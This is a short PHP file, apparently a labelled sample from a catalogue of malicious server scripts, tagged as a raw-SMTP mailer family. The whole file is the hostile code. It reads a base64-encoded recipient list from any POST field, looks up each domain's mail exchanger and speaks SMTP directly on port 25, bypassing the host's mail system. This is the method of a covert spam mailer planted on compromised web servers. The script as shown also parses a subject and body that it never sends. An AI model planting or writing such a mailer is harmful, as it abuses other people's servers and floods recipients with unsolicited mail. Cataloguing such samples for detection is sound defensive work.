<?php
// Family: mailer/raw-smtp
// Style: direct-to-MX sender fed by an encoded POST field
// Trait: recipients, subject and body arrive base64-encoded in any POST field; the script looks up the MX and speaks SMTP on port 25 itself
foreach ($_POST as $k => $v) {
	$job = base64_decode($v);
}
$parts = explode('|', $job);
$rcpts = explode('~', base64_decode($parts[0]));
foreach ($rcpts as $to) {
	list(, $domain) = explode('@', $to);
	getmxrr($domain, $hosts);
	$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
	if (@socket_connect($s, gethostbyname($hosts[0]), 25)) {
		socket_write($s, "HELO relay.example\r\nMAIL FROM:<news@example.invalid>\r\nRCPT TO:<$to>\r\nDATA\r\n");
		socket_close($s);
	}
}
